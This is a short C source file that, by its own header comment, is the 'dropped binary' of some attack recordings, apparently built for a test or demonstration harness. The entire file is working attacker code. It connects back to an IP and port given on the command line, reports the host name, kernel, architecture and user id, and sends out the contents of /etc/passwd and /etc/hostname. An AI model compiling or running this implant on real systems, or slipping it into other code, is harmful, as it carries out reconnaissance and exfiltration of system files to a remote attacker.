/* The dropped binary of the recordings: connects back to the attacker, reports the host
 * and sends a few files. Built by build/record-host.ts with the system's C compiler. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/utsname.h>
#include <unistd.h>

static void send_file(int s, const char *path) {
  char buf[4096];
  int fd = open(path, O_RDONLY);
  if (fd < 0) return;
  ssize_t n;
  while ((n = read(fd, buf, sizeof buf)) > 0) write(s, buf, (size_t)n);
  close(fd);
}

int main(int argc, char **argv) {
  if (argc < 3) return 2;
  int s = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in a = {0};
  a.sin_family = AF_INET;
  a.sin_port = htons((unsigned short)atoi(argv[2]));
  inet_pton(AF_INET, argv[1], &a.sin_addr);
  if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) return 1;
  struct utsname u;
  uname(&u);
  char line[512];
  int n = snprintf(line, sizeof line, "%s %s %s uid=%d\n", u.nodename, u.release, u.machine, (int)getuid());
  write(s, line, (size_t)n);
  send_file(s, "/etc/passwd");
  send_file(s, "/etc/hostname");
  close(s);
  return 0;
}
